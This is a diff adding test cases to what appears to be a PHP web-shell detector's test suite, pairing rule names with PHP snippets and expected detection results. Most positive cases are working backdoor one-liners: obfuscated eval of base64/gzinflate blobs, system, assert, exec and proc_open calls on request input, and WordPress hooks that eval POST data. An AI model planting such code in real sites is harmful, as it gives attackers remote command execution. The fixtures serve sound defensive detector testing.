+            "<?php\n$code = <<<EOT\nZVfbiuNIDP0VU/SDCwqD69XtYV+W+YF5W5bFbjLMkN1pSHrAwfjfVzqSSnKahDgu6345kl/X25fuZcX30U3dy9LdLh+/b7+6Yn9+fu9m/rm8/XjvXq5088pMY7fcu565lI5EFOYnkkyfsbt/3P69/OrptHT33yvdEvlG/MqgF8jNLM2I7Ao9c1fpM5JtSs/CJzYIPKSNTKBvafrG7vv77bK8/eh2psjtwSS6ZqIgY0nCQVwz00ATS1v4a+x2naBlY0nmxpVch3RIHINOtfJkwsz6EvGDeqJ7dXrw0xGOmanGnowSHpIN+1P02LIr60iIwzXI8IiQ9h3acsidPcRJJgJilkDX9syue4zFQ1hAflKolUGBfdWysidwQg4fZ+10jzpK7FwlRRbiGTVE8hN8XOjaePimpexKaTyIuDYbkSp7rvGbWdPBNjV/MxOaOpAVtr1AcR8KGBxQ2/Lf2iRJUoiPvoj0QB/6T6rNnsq6/WZgKo6ydBS3nfgBPRKlJQZ8I1tqSCfnwyOahaBXMSt8O5qpyOwaS4EN7PFrNKOI61mAyCCR9Nt8ZI0zW9Wi/mjMSJ83bevSgU1fBT5qTDmXmObHnBykG0kBx34mbV57ZEoRKWrmHhNNDwaO3cTsqCUWjv40AXTGzVU4V6u28sBReaDIDNdGAJUAmDfg0WoZkUvNz2YDN6bd5FMB06OdPoOqWKWNjXZkXSMyB5RqAlfj2FsrEcEQgjU0PJ7aqXl7CDjCOUEEYt6D1mA4RDS8zwjTHNx5hoEBZRt8oEgmEzBofFeIEURu9RVywaW1BSWDCYC7I4pzD90Odyod7KeaHdCPDZ+ySSENhY3c3IvGYfrp9xDnnz21lsw+phz1Sxh13n96NgKESHgca7NAv5fZGgZDG3cRZupnfDcOzgyKYz43DzCYfkQD11RoTQNdO1KAm6RrUpzfG0A0B+QxpiSaOQIopipNBpiYJNUJ7nO2Aoo9BNHVvxgYszVLqXDWAwbiAWo+C4jgtLQV5ZQ6HMvg5ib3AQfcqzJEgLizQKT5u9BBipDOrajLQcYAQLSj2QfdF0WRZEdZRkAKU8Gd1sQLsAJ+xVQEjZKxS99sEaCTFndD8EpaFLoDSjyvS1Xga/bSJStLSGjWca30vaQ8w5ztUzlmgdXYxTnESxtoMBwyOKmCtxWeVdnTSLoOmB6eJInuAwIZDxainmxUZxuNB3nisJbPs1oRcgqrkk/IBL+zTS2Uae+5rOI0p5/sS4ivlN9MRGMA/8P6OAetYZvBMNHtxbhaE1jLnzs6STEa0uwBCB1nwe8Dc8BEtEYg0w+jCXi+6A4p5V5jRWXZ1L01vQcmPESofbklWs5VPq99SXYc5Y2R161ib15hKythDUkYLwGneUYtQicLPEWQvQqVyPUzi2Lfnj7N32sA3VEimkXOJJM+cpNKSnTt2nhGjTus+xDJjkYcPxu4blsGHtK550/R5xDQ0v2CHcVYBKBhlqHyGZRbguunzb8B+oZ2acNI3lLcDGw8yVbB2ub/KlqewPfEl63NOBGr4rlPA5Jy6rhJFm+r6t1t0scadu2sKhXrNV0EcQ6prjEA+BwJi5ZxQeqw3yWILr5pTKEw4UjD3fT8AqYAN52QJIfS7r0xi4A4yGN9PcIrziDydt0jEPfJwu/OzjJgB+1Gn2FV3jgDCK8izGMf3o1GGW9ZoPx5W5EtvUqh20gtbVktCmq8G+c/7o/7x+W//uWfr39++yu9pb+zglB6v6bpfw==\nEOT;\neval(gzinflate(base64_decode($code)));\n"
+        ),
+        True,
+    ),
+    # d:preg_e_backref
+    (
+        "SPAMGEAR_EVASION_PregReplaceEvalCode",
+        plain(
+            "<?php preg_replace('/(.*)/e', 'eval(base64_decode(\"\\\\1\"))', 'QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw==');\n"
+        ),
+        True,
+    ),
+    # d:preg_e_backref
+    (
+        "SPAMGEAR_EVASION_PregReplaceEvalCode",
+        padded(
+            "<?php preg_replace('/(.*)/e', 'eval(base64_decode(\"\\\\1\"))', 'QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw==');\n"
+        ),
+        True,
+    ),
+    # d:preg_e_backref
+    (
+        "SPAMGEAR_EVASION_PregReplaceEvalCode",
+        embedded(
+            "<?php preg_replace('/(.*)/e', 'eval(base64_decode(\"\\\\1\"))', 'QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw==');\n"
+        ),
+        True,
+    ),
+    # d:preg_name_concat
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        plain("<?php\n$a = 'pr'.'eg_'.'rep'.'lace';\n$a('/.*/e', $_POST['c'], '');\n"),
+        True,
+    ),
+    # d:preg_name_concat
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        padded("<?php\n$a = 'pr'.'eg_'.'rep'.'lace';\n$a('/.*/e', $_POST['c'], '');\n"),
+        True,
+    ),
+    # d:preg_name_concat
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        embedded("<?php\n$a = 'pr'.'eg_'.'rep'.'lace';\n$a('/.*/e', $_POST['c'], '');\n"),
+        True,
+    ),
+    # d:mb_ereg_e
+    (
+        "SPAMGEAR_EVASION_SplitPregModifier",
+        plain(
+            "<?php mb_ereg_replace('.*', base64_decode('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='), 'x', 'e');\n"
+        ),
+        True,
+    ),
+    # d:mb_ereg_e
+    (
+        "SPAMGEAR_EVASION_SplitPregModifier",
+        padded(
+            "<?php mb_ereg_replace('.*', base64_decode('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='), 'x', 'e');\n"
+        ),
+        True,
+    ),
+    # d:mb_ereg_e
+    (
+        "SPAMGEAR_EVASION_SplitPregModifier",
+        embedded(
+            "<?php mb_ereg_replace('.*', base64_decode('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='), 'x', 'e');\n"
+        ),
+        True,
+    ),
+    # d:array_walk_cf
+    (
+        "SPAMGEAR_INPUT_ClosureSinkOfInput",
+        plain("<?php array_walk($arr = array($_POST['c'] => 'x'), create_function('$v,$k', 'eval($k);'));\n"),
+        True,
+    ),
+    # d:array_walk_cf
+    (
+        "SPAMGEAR_INPUT_ClosureSinkOfInput",
+        padded(
+            "<?php array_walk($arr = array($_POST['c'] => 'x'), create_function('$v,$k', 'eval($k);'));\n"
+        ),
+        True,
+    ),
+    # d:array_walk_cf
+    (
+        "SPAMGEAR_INPUT_ClosureSinkOfInput",
+        embedded(
+            "<?php array_walk($arr = array($_POST['c'] => 'x'), create_function('$v,$k', 'eval($k);'));\n"
+        ),
+        True,
+    ),
+    # d:sinkname_var_map
+    (
+        "SPAMGEAR_EVASION_SinkCallbackViaVariable",
+        plain("<?php\n$f = 'assert';\narray_map($f, array($_REQUEST['x']));\n"),
+        True,
+    ),
+    # d:tick_function
+    (
+        "SPAMGEAR_BACKDOOR_SinkNameBesideInput",
+        plain("<?php\ndeclare(ticks=1);\nregister_tick_function('system', $_GET['c']);\n"),
+        True,
+    ),
+    # d:tick_function
+    (
+        "SPAMGEAR_BACKDOOR_SinkNameBesideInput",
+        padded("<?php\ndeclare(ticks=1);\nregister_tick_function('system', $_GET['c']);\n"),
+        True,
+    ),
+    # d:tick_function
+    (
+        "SPAMGEAR_BACKDOOR_SinkNameBesideInput",
+        embedded("<?php\ndeclare(ticks=1);\nregister_tick_function('system', $_GET['c']);\n"),
+        True,
+    ),
+    # d:filter_var_cb
+    (
+        "SPAMGEAR_INPUT_SinkNameAsCallback",
+        plain("<?php filter_var($_POST['x'], FILTER_CALLBACK, array('options' => 'assert'));\n"),
+        True,
+    ),
+    # d:filter_var_cb
+    (
+        "SPAMGEAR_INPUT_SinkNameAsCallback",
+        padded("<?php filter_var($_POST['x'], FILTER_CALLBACK, array('options' => 'assert'));\n"),
+        True,
+    ),
+    # d:filter_var_cb
+    (
+        "SPAMGEAR_INPUT_SinkNameAsCallback",
+        embedded("<?php filter_var($_POST['x'], FILTER_CALLBACK, array('options' => 'assert'));\n"),
+        True,
+    ),
+    # d:reflection_invokeargs
+    (
+        "SPAMGEAR_EVASION_ReflectionOfSink",
+        plain("<?php\n$r = new ReflectionFunction('assert');\n$r->invokeArgs(array($_POST['x']));\n"),
+        True,
+    ),
+    # d:reflection_invokeargs
+    (
+        "SPAMGEAR_EVASION_ReflectionOfSink",
+        padded("<?php\n$r = new ReflectionFunction('assert');\n$r->invokeArgs(array($_POST['x']));\n"),
+        True,
+    ),
+    # d:reflection_invokeargs
+    (
+        "SPAMGEAR_EVASION_ReflectionOfSink",
+        embedded("<?php\n$r = new ReflectionFunction('assert');\n$r->invokeArgs(array($_POST['x']));\n"),
+        True,
+    ),
+    # d:array_intersect_ukey
+    (
+        "SPAMGEAR_EVASION_SinkNameRareCallback",
+        plain("<?php array_intersect_ukey(array($_POST['x'] => 1), array(1), 'assert');\n"),
+        True,
+    ),
+    # d:array_intersect_ukey
+    (
+        "SPAMGEAR_EVASION_SinkNameRareCallback",
+        padded("<?php array_intersect_ukey(array($_POST['x'] => 1), array(1), 'assert');\n"),
+        True,
+    ),
+    # d:array_intersect_ukey
+    (
+        "SPAMGEAR_EVASION_SinkNameRareCallback",
+        embedded("<?php array_intersect_ukey(array($_POST['x'] => 1), array(1), 'assert');\n"),
+        True,
+    ),
+    # d:array_walk_system
+    (
+        "SPAMGEAR_INPUT_SinkNameAsCallback",
+        plain("<?php\n$arr = [$_REQUEST['c']];\narray_walk($arr, 'system');\n"),
+        True,
+    ),
+    # d:array_walk_system
+    (
+        "SPAMGEAR_INPUT_SinkNameAsCallback",
+        padded("<?php\n$arr = [$_REQUEST['c']];\narray_walk($arr, 'system');\n"),
+        True,
+    ),
+    # d:array_walk_system
+    (
+        "SPAMGEAR_INPUT_SinkNameAsCallback",
+        embedded("<?php\n$arr = [$_REQUEST['c']];\narray_walk($arr, 'system');\n"),
+        True,
+    ),
+    # d:literal_sink_var
+    ("SPAMGEAR_OBFUSC_InputToVariableFunction", plain("<?php\n$f = 'system';\n$f($_GET['c']);\n"), True),
+    # d:literal_sink_var
+    ("SPAMGEAR_OBFUSC_InputToVariableFunction", padded("<?php\n$f = 'system';\n$f($_GET['c']);\n"), True),
+    # d:exec_out
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        plain(
+            "<?php\n$cmd = $_POST['cmd'];\n$out = array();\nexec($cmd, $out);\necho implode(\"\\n\", $out);\n"
+        ),
+        True,
+    ),
+    # d:exec_out
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        padded(
+            "<?php\n$cmd = $_POST['cmd'];\n$out = array();\nexec($cmd, $out);\necho implode(\"\\n\", $out);\n"
+        ),
+        True,
+    ),
+    # d:exec_out
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        embedded(
+            "<?php\n$cmd = $_POST['cmd'];\n$out = array();\nexec($cmd, $out);\necho implode(\"\\n\", $out);\n"
+        ),
+        True,
+    ),
+    # d:proc_open_input
+    (
+        "SPAMGEAR_INPUT_ShellOfInput",
+        plain(
+            "<?php\n$p = proc_open($_POST['c'], array(1 => array('pipe', 'w')), $pipes);\necho stream_get_contents($pipes[1]);\n"
+        ),
+        True,
+    ),
+    # d:proc_open_input
+    (
+        "SPAMGEAR_INPUT_ShellOfInput",
+        padded(
+            "<?php\n$p = proc_open($_POST['c'], array(1 => array('pipe', 'w')), $pipes);\necho stream_get_contents($pipes[1]);\n"
+        ),
+        True,
+    ),
+    # d:proc_open_input
+    (
+        "SPAMGEAR_INPUT_ShellOfInput",
+        embedded(
+            "<?php\n$p = proc_open($_POST['c'], array(1 => array('pipe', 'w')), $pipes);\necho stream_get_contents($pipes[1]);\n"
+        ),
+        True,
+    ),
+    # d:wp_hook_closure
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        plain(
+            "<?php\nadd_action('init', function () {\n    if (isset($_POST['wp_k'])) {\n        eval(base64_decode($_POST['wp_k']));\n    }\n});\n"
+        ),
+        True,
+    ),
+    # d:wp_hook_closure
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        padded(
+            "<?php\nadd_action('init', function () {\n    if (isset($_POST['wp_k'])) {\n        eval(base64_decode($_POST['wp_k']));\n    }\n});\n"
+        ),
+        True,
+    ),
+    # d:wp_hook_closure
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        embedded(
+            "<?php\nadd_action('init', function () {\n    if (isset($_POST['wp_k'])) {\n        eval(base64_decode($_POST['wp_k']));\n    }\n});\n"
+        ),
+        True,
+    ),
+    # d:wp_filter_assert
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        plain("<?php\nadd_filter('wp_head', function () { @assert(stripslashes($_REQUEST['q'])); });\n"),
+        True,
+    ),
+    # d:wp_filter_assert
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        padded("<?php\nadd_filter('wp_head', function () { @assert(stripslashes($_REQUEST['q'])); });\n"),
+        True,
+    ),
+    # d:wp_filter_assert
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        embedded("<?php\nadd_filter('wp_head', function () { @assert(stripslashes($_REQUEST['q'])); });\n"),
+        True,
+    ),
+    # d:static_prop_blob
+    (
+        "SPAMGEAR_EVASION_EvalOfVariableCall",
+        plain(
+            "<?php\nclass L { public static $d = 'ZVfbiuNIDP0VU/SDCwqD69XtYV+W+YF5W5bFbjLMkN1pSHrAwfjfVzqSSnKahDgu6345kl/X25fuZcX30U3dy9LdLh+/b7+6Yn9+fu9m/rm8/XjvXq5088pMY7fcu565lI5EFOYnkkyfsbt/3P69/OrptHT33yvdEvlG/MqgF8jNLM2I7Ao9c1fpM5JtSs/CJzYIPKSNTKBvafrG7vv77bK8/eh2psjtwSS6ZqIgY0nCQVwz00ATS1v4a+x2naBlY0nmxpVch3RIHINOtfJkwsz6EvGDeqJ7dXrw0xGOmanGnowSHpIN+1P02LIr60iIwzXI8IiQ9h3acsidPcRJJgJilkDX9syue4zFQ1hAflKolUGBfdWysidwQg4fZ+10jzpK7FwlRRbiGTVE8hN8XOjaePimpexKaTyIuDYbkSp7rvGbWdPBNjV/MxOaOpAVtr1AcR8KGBxQ2/Lf2iRJUoiPvoj0QB/6T6rNnsq6/WZgKo6ydBS3nfgBPRKlJQZ8I1tqSCfnwyOahaBXMSt8O5qpyOwaS4EN7PFrNKOI61mAyCCR9Nt8ZI0zW9Wi/mjMSJ83bevSgU1fBT5qTDmXmObHnBykG0kBx34mbV57ZEoRKWrmHhNNDwaO3cTsqCUWjv40AXTGzVU4V6u28sBReaDIDNdGAJUAmDfg0WoZkUvNz2YDN6bd5FMB06OdPoOqWKWNjXZkXSMyB5RqAlfj2FsrEcEQgjU0PJ7aqXl7CDjCOUEEYt6D1mA4RDS8zwjTHNx5hoEBZRt8oEgmEzBofFeIEURu9RVywaW1BSWDCYC7I4pzD90Odyod7KeaHdCPDZ+ySSENhY3c3IvGYfrp9xDnnz21lsw+phz1Sxh13n96NgKESHgca7NAv5fZGgZDG3cRZupnfDcOzgyKYz43DzCYfkQD11RoTQNdO1KAm6RrUpzfG0A0B+QxpiSaOQIopipNBpiYJNUJ7nO2Aoo9BNHVvxgYszVLqXDWAwbiAWo+C4jgtLQV5ZQ6HMvg5ib3AQfcqzJEgLizQKT5u9BBipDOrajLQcYAQLSj2QfdF0WRZEdZRkAKU8Gd1sQLsAJ+xVQEjZKxS99sEaCTFndD8EpaFLoDSjyvS1Xga/bSJStLSGjWca30vaQ8w5ztUzlmgdXYxTnESxtoMBwyOKmCtxWeVdnTSLoOmB6eJInuAwIZDxainmxUZxuNB3nisJbPs1oRcgqrkk/IBL+zTS2Uae+5rOI0p5/sS4ivlN9MRGMA/8P6OAetYZvBMNHtxbhaE1jLnzs6STEa0uwBCB1nwe8Dc8BEtEYg0w+jCXi+6A4p5V5jRWXZ1L01vQcmPESofbklWs5VPq99SXYc5Y2R161ib15hKythDUkYLwGneUYtQicLPEWQvQqVyPUzi2Lfnj7N32sA3VEimkXOJJM+cpNKSnTt2nhGjTus+xDJjkYcPxu4blsGHtK550/R5xDQ0v2CHcVYBKBhlqHyGZRbguunzb8B+oZ2acNI3lLcDGw8yVbB2ub/KlqewPfEl63NOBGr4rlPA5Jy6rhJFm+r6t1t0scadu2sKhXrNV0EcQ6prjEA+BwJi5ZxQeqw3yWILr5pTKEw4UjD3fT8AqYAN52QJIfS7r0xi4A4yGN9PcIrziDydt0jEPfJwu/OzjJgB+1Gn2FV3jgDCK8izGMf3o1GGW9ZoPx5W5EtvUqh20gtbVktCmq8G+c/7o/7x+W//uWfr39++yu9pb+zglB6v6bpfw=='; }\n$f = 'gzinf' . 'late';\neval($f(base64_decode(L::$d)));\n"
+        ),
+        True,
+    ),
+    # d:static_prop_blob
+    (
+        "SPAMGEAR_EVASION_EvalOfVariableCall",
+        padded(
+            "<?php\nclass L { public static $d = 'ZVfbiuNIDP0VU/SDCwqD69XtYV+W+YF5W5bFbjLMkN1pSHrAwfjfVzqSSnKahDgu6345kl/X25fuZcX30U3dy9LdLh+/b7+6Yn9+fu9m/rm8/XjvXq5088pMY7fcu565lI5EFOYnkkyfsbt/3P69/OrptHT33yvdEvlG/MqgF8jNLM2I7Ao9c1fpM5JtSs/CJzYIPKSNTKBvafrG7vv77bK8/eh2psjtwSS6ZqIgY0nCQVwz00ATS1v4a+x2naBlY0nmxpVch3RIHINOtfJkwsz6EvGDeqJ7dXrw0xGOmanGnowSHpIN+1P02LIr60iIwzXI8IiQ9h3acsidPcRJJgJilkDX9syue4zFQ1hAflKolUGBfdWysidwQg4fZ+10jzpK7FwlRRbiGTVE8hN8XOjaePimpexKaTyIuDYbkSp7rvGbWdPBNjV/MxOaOpAVtr1AcR8KGBxQ2/Lf2iRJUoiPvoj0QB/6T6rNnsq6/WZgKo6ydBS3nfgBPRKlJQZ8I1tqSCfnwyOahaBXMSt8O5qpyOwaS4EN7PFrNKOI61mAyCCR9Nt8ZI0zW9Wi/mjMSJ83bevSgU1fBT5qTDmXmObHnBykG0kBx34mbV57ZEoRKWrmHhNNDwaO3cTsqCUWjv40AXTGzVU4V6u28sBReaDIDNdGAJUAmDfg0WoZkUvNz2YDN6bd5FMB06OdPoOqWKWNjXZkXSMyB5RqAlfj2FsrEcEQgjU0PJ7aqXl7CDjCOUEEYt6D1mA4RDS8zwjTHNx5hoEBZRt8oEgmEzBofFeIEURu9RVywaW1BSWDCYC7I4pzD90Odyod7KeaHdCPDZ+ySSENhY3c3IvGYfrp9xDnnz21lsw+phz1Sxh13n96NgKESHgca7NAv5fZGgZDG3cRZupnfDcOzgyKYz43DzCYfkQD11RoTQNdO1KAm6RrUpzfG0A0B+QxpiSaOQIopipNBpiYJNUJ7nO2Aoo9BNHVvxgYszVLqXDWAwbiAWo+C4jgtLQV5ZQ6HMvg5ib3AQfcqzJEgLizQKT5u9BBipDOrajLQcYAQLSj2QfdF0WRZEdZRkAKU8Gd1sQLsAJ+xVQEjZKxS99sEaCTFndD8EpaFLoDSjyvS1Xga/bSJStLSGjWca30vaQ8w5ztUzlmgdXYxTnESxtoMBwyOKmCtxWeVdnTSLoOmB6eJInuAwIZDxainmxUZxuNB3nisJbPs1oRcgqrkk/IBL+zTS2Uae+5rOI0p5/sS4ivlN9MRGMA/8P6OAetYZvBMNHtxbhaE1jLnzs6STEa0uwBCB1nwe8Dc8BEtEYg0w+jCXi+6A4p5V5jRWXZ1L01vQcmPESofbklWs5VPq99SXYc5Y2R161ib15hKythDUkYLwGneUYtQicLPEWQvQqVyPUzi2Lfnj7N32sA3VEimkXOJJM+cpNKSnTt2nhGjTus+xDJjkYcPxu4blsGHtK550/R5xDQ0v2CHcVYBKBhlqHyGZRbguunzb8B+oZ2acNI3lLcDGw8yVbB2ub/KlqewPfEl63NOBGr4rlPA5Jy6rhJFm+r6t1t0scadu2sKhXrNV0EcQ6prjEA+BwJi5ZxQeqw3yWILr5pTKEw4UjD3fT8AqYAN52QJIfS7r0xi4A4yGN9PcIrziDydt0jEPfJwu/OzjJgB+1Gn2FV3jgDCK8izGMf3o1GGW9ZoPx5W5EtvUqh20gtbVktCmq8G+c/7o/7x+W//uWfr39++yu9pb+zglB6v6bpfw=='; }\n$f = 'gzinf' . 'late';\neval($f(base64_decode(L::$d)));\n"
+        ),
+        True,
+    ),
+    # d:static_prop_blob
+    (
+        "SPAMGEAR_EVASION_EvalOfVariableCall",
+        embedded(
+            "<?php\nclass L { public static $d = 'ZVfbiuNIDP0VU/SDCwqD69XtYV+W+YF5W5bFbjLMkN1pSHrAwfjfVzqSSnKahDgu6345kl/X25fuZcX30U3dy9LdLh+/b7+6Yn9+fu9m/rm8/XjvXq5088pMY7fcu565lI5EFOYnkkyfsbt/3P69/OrptHT33yvdEvlG/MqgF8jNLM2I7Ao9c1fpM5JtSs/CJzYIPKSNTKBvafrG7vv77bK8/eh2psjtwSS6ZqIgY0nCQVwz00ATS1v4a+x2naBlY0nmxpVch3RIHINOtfJkwsz6EvGDeqJ7dXrw0xGOmanGnowSHpIN+1P02LIr60iIwzXI8IiQ9h3acsidPcRJJgJilkDX9syue4zFQ1hAflKolUGBfdWysidwQg4fZ+10jzpK7FwlRRbiGTVE8hN8XOjaePimpexKaTyIuDYbkSp7rvGbWdPBNjV/MxOaOpAVtr1AcR8KGBxQ2/Lf2iRJUoiPvoj0QB/6T6rNnsq6/WZgKo6ydBS3nfgBPRKlJQZ8I1tqSCfnwyOahaBXMSt8O5qpyOwaS4EN7PFrNKOI61mAyCCR9Nt8ZI0zW9Wi/mjMSJ83bevSgU1fBT5qTDmXmObHnBykG0kBx34mbV57ZEoRKWrmHhNNDwaO3cTsqCUWjv40AXTGzVU4V6u28sBReaDIDNdGAJUAmDfg0WoZkUvNz2YDN6bd5FMB06OdPoOqWKWNjXZkXSMyB5RqAlfj2FsrEcEQgjU0PJ7aqXl7CDjCOUEEYt6D1mA4RDS8zwjTHNx5hoEBZRt8oEgmEzBofFeIEURu9RVywaW1BSWDCYC7I4pzD90Odyod7KeaHdCPDZ+ySSENhY3c3IvGYfrp9xDnnz21lsw+phz1Sxh13n96NgKESHgca7NAv5fZGgZDG3cRZupnfDcOzgyKYz43DzCYfkQD11RoTQNdO1KAm6RrUpzfG0A0B+QxpiSaOQIopipNBpiYJNUJ7nO2Aoo9BNHVvxgYszVLqXDWAwbiAWo+C4jgtLQV5ZQ6HMvg5ib3AQfcqzJEgLizQKT5u9BBipDOrajLQcYAQLSj2QfdF0WRZEdZRkAKU8Gd1sQLsAJ+xVQEjZKxS99sEaCTFndD8EpaFLoDSjyvS1Xga/bSJStLSGjWca30vaQ8w5ztUzlmgdXYxTnESxtoMBwyOKmCtxWeVdnTSLoOmB6eJInuAwIZDxainmxUZxuNB3nisJbPs1oRcgqrkk/IBL+zTS2Uae+5rOI0p5/sS4ivlN9MRGMA/8P6OAetYZvBMNHtxbhaE1jLnzs6STEa0uwBCB1nwe8Dc8BEtEYg0w+jCXi+6A4p5V5jRWXZ1L01vQcmPESofbklWs5VPq99SXYc5Y2R161ib15hKythDUkYLwGneUYtQicLPEWQvQqVyPUzi2Lfnj7N32sA3VEimkXOJJM+cpNKSnTt2nhGjTus+xDJjkYcPxu4blsGHtK550/R5xDQ0v2CHcVYBKBhlqHyGZRbguunzb8B+oZ2acNI3lLcDGw8yVbB2ub/KlqewPfEl63NOBGr4rlPA5Jy6rhJFm+r6t1t0scadu2sKhXrNV0EcQ6prjEA+BwJi5ZxQeqw3yWILr5pTKEw4UjD3fT8AqYAN52QJIfS7r0xi4A4yGN9PcIrziDydt0jEPfJwu/OzjJgB+1Gn2FV3jgDCK8izGMf3o1GGW9ZoPx5W5EtvUqh20gtbVktCmq8G+c/7o/7x+W//uWfr39++yu9pb+zglB6v6bpfw=='; }\n$f = 'gzinf' . 'late';\neval($f(base64_decode(L::$d)));\n"
+        ),
+        True,
+    ),
+    # d:double_b64_var
+    (
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        plain(
+            "<?php\n$c = 'UUhONWMzUmxiU2drWDBkRlZGc2lZeUpkS1RzZ1pXTm9ieUFpYjJzaU93PT0=';\n$c = base64_decode(base64_decode($c));\neval($c);\n"
+        ),
+        True,
+    ),
+    # d:double_b64_var
+    (
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        padded(
+            "<?php\n$c = 'UUhONWMzUmxiU2drWDBkRlZGc2lZeUpkS1RzZ1pXTm9ieUFpYjJzaU93PT0=';\n$c = base64_decode(base64_decode($c));\neval($c);\n"
+        ),
+        True,
+    ),
+    # d:double_b64_var
+    (
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        embedded(
+            "<?php\n$c = 'UUhONWMzUmxiU2drWDBkRlZGc2lZeUpkS1RzZ1pXTm9ieUFpYjJzaU93PT0=';\n$c = base64_decode(base64_decode($c));\neval($c);\n"
+        ),
+        True,
+    ),
+    # d:eval_sprintf
+    (
+        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
+        plain("<?php eval(sprintf('%s', base64_decode('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw==')));\n"),
+        True,
+    ),
+    # d:eval_sprintf
+    (
+        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
+        padded("<?php eval(sprintf('%s', base64_decode('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw==')));\n"),
+        True,
+    ),
+    # d:eval_sprintf
+    (
+        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
+        embedded(
+            "<?php eval(sprintf('%s', base64_decode('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw==')));\n"
+        ),
+        True,
+    ),
+    # d:ucfirst_name
+    (
+        "SPAMGEAR_OBFUSC_InputToVariableFunction",
+        plain("<?php\n$s = 'SYSTEM';\n$f = strtolower($s);\n$f($_GET['c']);\n"),
+        True,
+    ),
+    # d:ucfirst_name
+    (
+        "SPAMGEAR_OBFUSC_InputToVariableFunction",
+        padded("<?php\n$s = 'SYSTEM';\n$f = strtolower($s);\n$f($_GET['c']);\n"),
+        True,
+    ),
     (
         "SPAMGEAR_OBFUSC_DecodedVarEval",
         plain(
@@ -3857,6 +4641,93 @@ CASES: list[tuple[str, bytes, bool]] = [
         embedded(
             "<?php\n$raw = stripslashes($_POST['json']);\n$data = json_decode($raw);\nvar_dump($data);\n"
         ),
+        False,
+    ),
+    (
+        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
+        plain(
+            "<?php\n$v = $handlers['x']($code);\n$r = eval('return ' . $expr . ';');\n$x = call_user_func('base64_decode', $s);\necho $x;\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
+        padded(
+            "<?php\n$v = $handlers['x']($code);\n$r = eval('return ' . $expr . ';');\n$x = call_user_func('base64_decode', $s);\necho $x;\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
+        embedded(
+            "<?php\n$v = $handlers['x']($code);\n$r = eval('return ' . $expr . ';');\n$x = call_user_func('base64_decode', $s);\necho $x;\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
+        plain(
+            "<?php\nfor ($i = 0; $i < 8; $i++) { $out .= chr($c[$i]); $h .= $a[$i] ^ $b[$i]; }\necho $out;\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
+        padded(
+            "<?php\nfor ($i = 0; $i < 8; $i++) { $out .= chr($c[$i]); $h .= $a[$i] ^ $b[$i]; }\necho $out;\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
+        embedded(
+            "<?php\nfor ($i = 0; $i < 8; $i++) { $out .= chr($c[$i]); $h .= $a[$i] ^ $b[$i]; }\necho $out;\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_ClosureSinkOfInput",
+        plain("<?php\nusort($rows, create_function('$a,$b', 'return strcmp($a, $b);'));\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_ClosureSinkOfInput",
+        padded("<?php\nusort($rows, create_function('$a,$b', 'return strcmp($a, $b);'));\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_ClosureSinkOfInput",
+        embedded("<?php\nusort($rows, create_function('$a,$b', 'return strcmp($a, $b);'));\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_EVASION_SplitPregModifier",
+        plain("<?php\n$s = mb_ereg_replace('\\s+', ' ', trim($_POST['name']), 'msr');\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_EVASION_SplitPregModifier",
+        padded("<?php\n$s = mb_ereg_replace('\\s+', ' ', trim($_POST['name']), 'msr');\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_EVASION_SplitPregModifier",
+        embedded("<?php\n$s = mb_ereg_replace('\\s+', ' ', trim($_POST['name']), 'msr');\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_InputCallbackVar",
+        plain("<?php\n$order = $_GET['order'];\nusort($rows, $cmp);\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_InputCallbackVar",
+        padded("<?php\n$order = $_GET['order'];\nusort($rows, $cmp);\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_InputCallbackVar",
+        embedded("<?php\n$order = $_GET['order'];\nusort($rows, $cmp);\n"),
         False,
     ),
 ]
